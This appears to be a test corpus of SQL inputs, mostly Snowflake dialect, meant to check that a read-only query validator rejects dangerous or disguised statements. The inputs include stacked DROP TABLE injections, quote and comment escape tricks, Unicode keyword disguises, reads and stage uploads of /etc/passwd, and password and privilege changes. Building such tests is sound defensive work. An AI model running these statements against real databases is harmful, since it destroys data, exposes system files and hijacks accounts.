WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x
-- ;;
WITH x AS (SELECT 1) UPDATE t SET a = 1
-- ;;
SELECT * FROM TABLE(SHOW TABLES)
-- ;;
SELECT * FROM TABLE(FLATTEN(INPUT => my_udf(1)))
-- ;;
SELECT FILTER(a, x -> SYSTEM$WAIT(x) = '') FROM t
-- ;;
SELECT CASE WHEN my_udf(1) THEN 1 END
-- ;;
SELECT a[my_udf(1)] FROM t
-- ;;
SELECT v:a[my_udf(0)] FROM t
-- ;;
SELECT SUM(x) OVER (PARTITION BY my_udf(y)) FROM t
-- ;;
SELECT * FROM a ASOF JOIN b MATCH_CONDITION (my_udf(a.t) >= b.t)
-- ;;
SELECT * FROM t AT (TIMESTAMP => my_udf())
-- ;;
SELECT * FROM t AT (STATEMENT => SYSTEM$X())
-- ;;
SELECT * FROM t PIVOT (my_agg(x) FOR y IN ('a'))
-- ;;
SELECT * FROM t PIVOT (SUM(x) FOR y IN (SELECT my_udf(1)))
-- ;;
SELECT * FROM t MATCH_RECOGNIZE (ORDER BY a MEASURES my_udf(x) AS m PATTERN (p) DEFINE p AS TRUE)
-- ;;
SELECT * FROM t MATCH_RECOGNIZE (ORDER BY a MEASURES 1 AS m PATTERN (p) DEFINE p AS my_udf(x))
-- ;;
SELECT FIRST(a), LAST(b) FROM t
-- ;;
SELECT PREV(a) FROM t
-- ;;
SELECT LISTAGG(my_udf(a), ',') WITHIN GROUP (ORDER BY b) FROM t
-- ;;
SELECT LISTAGG(a, ',') WITHIN GROUP (ORDER BY my_udf(b)) FROM t
-- ;;
SELECT * FROM t START WITH my_udf(1) CONNECT BY PRIOR a = b
-- ;;
SELECT * FROM SEMANTIC_VIEW(sv METRICS a.b WHERE my_udf(1) = 1)
-- ;;
SELECT UPPER (my_udf ( 1 ))
-- ;;
SELECT my_udf/* x */(1)
-- ;;
SELECT "my_udf"(1), "UPPER"('x')
-- ;;
SELECT db.s.UPPER('x')
-- ;;
SELECT public.abs(1)
-- ;;
SELECT information_schema.my_fn(1)
-- ;;
SELECT * FROM TABLE(evil.INFORMATION_SCHEMA.MY_FN())
-- ;;
SELECT GET_DDL(1), RUN_SQL('x')
-- ;;
SELECT ＳＥＬＥＣＴ(1)
-- ;;
ＤＥＬＥＴＥ FROM t
-- ;;
SELECT ſum(1)
-- ;;
SELECT my_ﬁn(1)
-- ;;
SELECT größe(1)
-- ;;
ſELECT 1
-- ;;
SELECT 1 UNION ALL CALL p()
-- ;;
SELECT PUT(1) ; PUT file:///a @b
-- ;;
PUT file:///a @b
-- ;;
GET @b file:///a PATTERN = '.*'
-- ;;
SET x = (SELECT 1)
-- ;;
GRANT SELECT ON ALL TABLES IN SCHEMA s TO ROLE PUBLIC
-- ;;
REVOKE ROLE r FROM USER u
-- ;;
PRAGMA x
-- ;;
ATTACH 'a.db'
-- ;;
ANALYZE TABLE t
-- ;;
VACUUM t
-- ;;
EXEC sp_x
-- ;;
DO $$ BEGIN END $$
-- ;;
ALTER SESSION SET MULTI_STATEMENT_COUNT = 0
-- ;;
SELECT * FROM READ_CSV('/etc/passwd')
-- ;;
SELECT * FROM read_text('/etc/passwd')
-- ;;
SELECT * FROM '/etc/passwd'
-- ;;
SELECT * FROM "read_csv"('/etc/passwd')
-- ;;
SELECT FINAL(a) FROM t
-- ;;
SELECT RUNNING my_udf(1) FROM t
-- ;;
SELECT NTH_VALUE(my_udf(a), 2) FROM FIRST OVER (ORDER BY b) FROM t
-- ;;
SELECT a FROM first, my_udf(1) FROM t
-- ;;
SELECT EXECUTE_IMMEDIATE('x')
-- ;;
DESCRIBE TABLE IDENTIFIER('x')
-- ;;
SHOW TABLES HISTORY DELETE FROM t
-- ;;
SHOW GRANTS TO ROLE r WITH GRANT OPTION x y
-- ;;
SELECT LAST_QUERY_ID()
-- ;;
SELECT LAST_TRANSACTION()
-- ;;
SELECT * FROM t LIMIT (SELECT s.NEXTVAL)
-- ;;
SELECT s.nextval FROM DUAL
-- ;;
SELECT "S"."NEXTVAL"
-- ;;
SELECT db.sch.seq . nextval
-- ;;
SELECT * FROM TABLE(getnextval(s))
-- ;;
SELECT * FROM t, TABLE(GETNEXTVAL(s)) x
-- ;;
SELECT 1 AS a ->> DELETE FROM t
-- ;;
SHOW TABLES ->> (DELETE FROM t)
-- ;;
EXPLAIN USING JSON DELETE FROM t
-- ;;
SELECT "SYSTEM$CANCEL_QUERY"('x')
-- ;;
SELECT * FROM TABLE(my_proc(1))
-- ;;
SELECT * FROM TABLE(db.sch.my_udtf(1))
-- ;;
WITH p AS PROCEDURE () RETURNS INT LANGUAGE SQL AS $$BEGIN RETURN 1; END$$ CALL p()
-- ;;
WITH p AS FUNCTION f() SELECT f()
-- ;;
SELECT IDENTIFIER($x) FROM t
-- ;;
SELECT * FROM @stage/f.csv
-- ;;
SELECT $1 FROM @~/x
-- ;;
SELECT $1 FROM '@stage/x'
-- ;;
SELECT * FROM TABLE(INFER_SCHEMA(LOCATION=>'@s', FILE_FORMAT=>'f'))
-- ;;
SELECT GET_PRESIGNED_URL(@s,'f')
-- ;;
SELECT BUILD_SCOPED_FILE_URL(@s,'f')
-- ;;
SELECT AI_COMPLETE('m','p')
-- ;;
SELECT SNOWFLAKE.CORTEX.COMPLETE('m','p')
-- ;;
SELECT * FROM TABLE(TO_QUERY('DELETE FROM t'))
-- ;;
SELECT * FROM TABLE(SYSTEM$STREAM_BACKLOG('s'))
-- ;;
SELECT * INTO x FROM t
-- ;;
SELECT 1; SELECT 2
-- ;;
SELECT 1;-- x
DROP TABLE t
-- ;;
/* a */ DROP /* b */ TABLE t
-- ;;
SELECT/**/1/**/;/**/DROP TABLE t
-- ;;
(((DELETE FROM t)))
-- ;;
BEGIN SELECT 1; END
-- ;;
RETURN 1
-- ;;
IF (1=1) THEN DROP TABLE t; END IF
-- ;;
FOR i IN 1 TO 2 DO DELETE FROM t; END FOR
-- ;;
ASYNC (DELETE FROM t)
-- ;;
EXECUTE IMMEDIATE 'DROP TABLE t'
-- ;;
EXECUTE IMMEDIATE FROM @s/x.sql
-- ;;
EXECUTE TASK t
-- ;;
EXECUTE NOTEBOOK n()
-- ;;
EXECUTE SERVICE IN COMPUTE POOL p FROM @s
-- ;;
DESC RESULT 'x'
-- ;;
LIST @s
-- ;;
LS @s
-- ;;
REMOVE @s
-- ;;
RM @s
-- ;;
PUT file:///etc/passwd @s
-- ;;
GET @s file:///tmp
-- ;;
COPY INTO @s FROM (SELECT 1)
-- ;;
COPY INTO t FROM @s
-- ;;
SET x=1
-- ;;
GRANT ROLE x TO USER y
-- ;;
REVOKE ROLE x FROM USER y
-- ;;
INSERT INTO t SELECT 1
-- ;;
INSERT ALL INTO t SELECT 1
-- ;;
MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE
-- ;;
WITH x AS (SELECT 1) DELETE FROM t
-- ;;
WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x
-- ;;
FROM t DELETE
-- ;;
FROM t INSERT INTO x
-- ;;
SELECT (DELETE FROM t)
-- ;;
SELECT * FROM t WHERE x IN (UPDATE t SET a=1)
-- ;;
EXPLAIN EXECUTE IMMEDIATE 'x'
-- ;;
SELECT f(1) FROM t
-- ;;
SELECT a.b.f(1)
-- ;;
SELECT t.f(1) FROM t
-- ;;
SELECT x.method(1) FROM t
-- ;;
SELECT * FROM t, LATERAL f(t.x)
-- ;;
SELECT * FROM LATERAL (CALL p())
-- ;;
SELECT TRANSFORM(a, x -> f(x)) FROM t
-- ;;
SELECT FILTER(a, x -> my_udf(x)) FROM t
-- ;;
SELECT REDUCE(a, 0, (acc, x) -> udf(acc,x)) FROM t
-- ;;
SELECT * FROM t PIVOT(my_agg(x) FOR y IN ('a'))
-- ;;
SELECT * FROM t PIVOT(SUM(x) FOR y IN (ANY ORDER BY f(y)))
-- ;;
SELECT * FROM t SAMPLE (f(1))
-- ;;
SELECT * FROM t AT(TIMESTAMP => f(1))
-- ;;
SELECT * FROM t BEFORE(STATEMENT => LAST_QUERY_ID())
-- ;;
SELECT * FROM t CHANGES(INFORMATION => DEFAULT) AT(OFFSET => f())
-- ;;
SELECT * FROM t MATCH_RECOGNIZE(MEASURES f(x) AS y PATTERN (a) DEFINE a AS true)
-- ;;
SELECT * FROM t QUALIFY ROW_NUMBER() OVER (ORDER BY udf(x)) = 1
-- ;;
SELECT * FROM t ORDER BY udf(x)
-- ;;
SELECT * FROM t LIMIT udf(1)
-- ;;
SELECT * FROM t FETCH FIRST udf(1) ROWS ONLY
-- ;;
SELECT * FROM t GROUP BY CUBE(udf(x))
-- ;;
SELECT CASE WHEN udf(1) THEN 1 END
-- ;;
SELECT v:a[udf(1)] FROM t
-- ;;
SELECT v[s.nextval] FROM t
-- ;;
SELECT udf (1)
-- ;;
SELECT udf
(1)
-- ;;
SELECT udf/**/(1)
-- ;;
SELECT "udf"(1)
-- ;;
SELECT udf-- x
(1)
-- ;;
SELECT * EXCLUDE (udf(1)) FROM t
-- ;;
SELECT * REPLACE (udf(x) AS x) FROM t
-- ;;
SELECT * ILIKE udf('x') FROM t
-- ;;
SELECT &x
-- ;;
SELECT &{x}
-- ;;
!source x.sql
-- ;;
!set a=b
-- ;;
SELECT 1 UNION ALL (DELETE FROM t)
-- ;;
SELECT 1 INTO :x
-- ;;
SELECT * FROM t FOR UPDATE NOWAIT
-- ;;
SHOW TABLES ->> CALL p($1)
-- ;;
SHOW TABLES ->> SELECT udf($1) FROM $1
-- ;;
SELECT 1 ->> SELECT * FROM $2; DROP TABLE t
-- ;;
SELECT 1 -- ->> 
->> DROP TABLE t
-- ;;
SELECT '->>' ->> DROP TABLE t
-- ;;
EXPLAIN SELECT 1 ->> DROP TABLE t
-- ;;
SELECT $$ $$ || $$'$$; DROP TABLE t --'
-- ;;
SELECT 'a''; DROP TABLE t --
-- ;;
SELECT "a""b"; DROP TABLE t
-- ;;
SELECT 1 //
; DROP TABLE t
-- ;;
SELECT @x
-- ;;
CREATE OR REPLACE TEMP TABLE x AS SELECT 1
-- ;;
CREATE TABLE IF NOT EXISTS x(a INT)
-- ;;
ALTER SESSION SET QUERY_TAG='x'
-- ;;
ALTER SESSION UNSET X
-- ;;
CREATE SNAPSHOT SET x FOR TABLE t
-- ;;
CREATE DYNAMIC TABLE x AS SELECT 1
-- ;;
SHOW VARIABLES ->> EXECUTE IMMEDIATE $1
-- ;;
VALUES (s.NEXTVAL)
-- ;;
VALUES (udf(1))
-- ;;
SELECT * FROM VALUES (udf(1)) AS v(a)
-- ;;
SELECT * FROM (VALUES (s.NEXTVAL)) AS v(a)
-- ;;
SELECT * FROM t ASOF JOIN u MATCH_CONDITION(t.a >= udf(u.b))
-- ;;
SELECT * FROM SEMANTIC_VIEW(v METRICS udf(m))
-- ;;
SELECT * FROM TABLE(EXTERNAL_FUNCTIONS_HISTORY())
-- ;;
SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY(udf(1)))
-- ;;
SELECT * FROM TABLE(db.INFORMATION_SCHEMA.EVIL(1))
-- ;;
SELECT ENCRYPT(udf('x'),'k')
-- ;;
SELECT SEND_EMAIL('a')
-- ;;
SELECT SYSTEM$SEND_EMAIL('i','t','s','b')
-- ;;
SELECT SNOWFLAKE.NOTIFICATION.X()
-- ;;
SELECT SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('x','y')
-- ;;
SELECT SYSTEM$TASK_FORCE_RUN('x')
-- ;;
SELECT SYSTEM$USER_TASK_CANCEL_ONGOING_EXECUTIONS('x')
-- ;;
SELECT SYSTEM$CONVERT_PIPES_SQS_TO_SNS('x')
-- ;;
SELECT SYSTEM$ALLOWLIST ()::string, SYSTEM$START_OAUTH_FLOW('x')
-- ;;
SELECT SNOWFLAKE.ML.FORECAST!FORECAST(1)
-- ;;
SELECT model!PREDICT(1)
-- ;;
CALL m!FORECAST(1)
-- ;;
SELECT * FROM TABLE(m!FORECAST(1))
-- ;;
SELECT m!predict(a) FROM t
-- ;;
SELECT MODEL(m, v)!PREDICT(1)
-- ;;
WITH RECURSIVE r AS (SELECT udf(1) UNION ALL SELECT 1 FROM r) SELECT * FROM r
-- ;;
SELECT * FROM t WHERE EXISTS (SELECT udf(1))
-- ;;
SELECT LISTAGG(udf(x), ',') WITHIN GROUP (ORDER BY x) FROM t
-- ;;
SELECT COUNT(*) FILTER (WHERE udf(1)) FROM t
-- ;;
SELECT SUM(x) OVER (PARTITION BY udf(y)) FROM t
-- ;;
SELECT SUM(x) OVER w FROM t WINDOW w AS (ORDER BY udf(1))
-- ;;
SELECT 1::udf(1)
-- ;;
SELECT CAST(1 AS udf(1))
-- ;;
SELECT TRY_CAST(udf('x') AS INT)
-- ;;
SELECT DATE_PART(udf(1), d) FROM t
-- ;;
SELECT EXTRACT(YEAR FROM udf(1))
-- ;;
SELECT POSITION('a' IN udf('b'))
-- ;;
SELECT SUBSTRING('a' FROM udf(1))
-- ;;
SELECT TRIM(udf('x'))
-- ;;
SELECT INTERVAL udf(1)
-- ;;
SELECT x LIKE ANY (udf('a')) FROM t
-- ;;
SELECT x LIKE 'a' ESCAPE udf('x') FROM t
-- ;;
SELECT {'a': udf(1)}
-- ;;
SELECT [udf(1)]
-- ;;
SELECT {* , 'x': s.nextval} FROM t
-- ;;
SELECT [s.NEXTVAL]
-- ;;
SELECT * FROM t WHERE (a,b) = (udf(1),2)
-- ;;
SELECT CONNECT_BY_ROOT udf(x) FROM t START WITH udf(1) CONNECT BY PRIOR a=b
-- ;;
SELECT * FROM t CONNECT BY udf(1)
-- ;;
SELECT * FROM t UNPIVOT(x FOR y IN (udf(1)))
-- ;;
SELECT TOP udf(1) * FROM t
-- ;;
SELECT TOP (SELECT s.NEXTVAL) * FROM t
-- ;;
SELECT DISTINCT ON (udf(1)) a FROM t
-- ;;
SELECT * FROM DIRECTORY(@s)
-- ;;
SELECT * FROM TABLE(DIRECTORY(@s))
-- ;;
SELECT * FROM TABLE(FLATTEN(udf(1)))
-- ;;
SELECT * FROM TABLE(GENERATOR(ROWCOUNT=>udf(1)))
-- ;;
SELECT * FROM TABLE(SPLIT_TO_TABLE(udf('a'),','))
-- ;;
SELECT FILE_URL FROM @s
-- ;;
SELECT TO_FILE('@s/x')
-- ;;
SELECT READ_FILE(@s)
-- ;;
SELECT s.NEXTVAL::INT
-- ;;
SELECT -s.NEXTVAL
-- ;;
SELECT (s).NEXTVAL
-- ;;
SELECT s.NEXTVAL AS x, 1 FROM t GROUP BY ALL
-- ;;
SELECT "s".nextval
-- ;;
SELECT s."nextval"
-- ;;
SELECT a.nextval FROM t a
-- ;;
SHOW GRANTS TO ROLE x; GRANT ROLE x TO USER y
-- ;;
SHOW DELEGATED AUTHORIZATIONS ->> DROP USER x
-- ;;
DESC USER x ->> ALTER USER x SET PASSWORD='y'
-- ;;
EXPLAIN USING TABULAR SELECT udf(1)
-- ;;
SELECT 1; DROP TABLE t
-- ;;
SELECT DROP TABLE t
-- ;;
DROP​TABLE t
-- ;;
SELECT `a`; DROP TABLE t
-- ;;
SELECT N'a'; DROP TABLE t
-- ;;
SELECT E'\'; DROP TABLE t --'
-- ;;
SELECT x'41'; DROP TABLE t
-- ;;
SELECT $a$ ; DROP TABLE t $a$
-- ;;
SELECT q'[']'; DROP TABLE t
-- ;;
SELECT r'\'; DROP TABLE t --'
-- ;;
SELECT u&'\'; DROP TABLE t --'
-- ;;
SELECT b'\'; DROP TABLE t --'
-- ;;
SELECT {fn udf(1)}
-- ;;
SELECT {d '2020-01-01'}; DROP TABLE t
-- ;;
{call p()}
-- ;;
{?= call p()}
-- ;;
SELECT 1 AS x, PARSE_JSON('{}'):a.udf(1)
-- ;;
SELECT a:b.c(1) FROM t
-- ;;
SELECT t.*.f(1) FROM t
-- ;;
SELECT HASH_AGG(udf(1)) FROM t
-- ;;
SELECT MIN_BY(x, udf(1)) FROM t
-- ;;
SELECT GET_OBJECT_REFERENCES(database_name=>udf(1))
-- ;;
SELECT SYSTEM$TYPEOF(udf(1))
-- ;;
SELECT SYSTEM$TYPEOF(s.NEXTVAL)
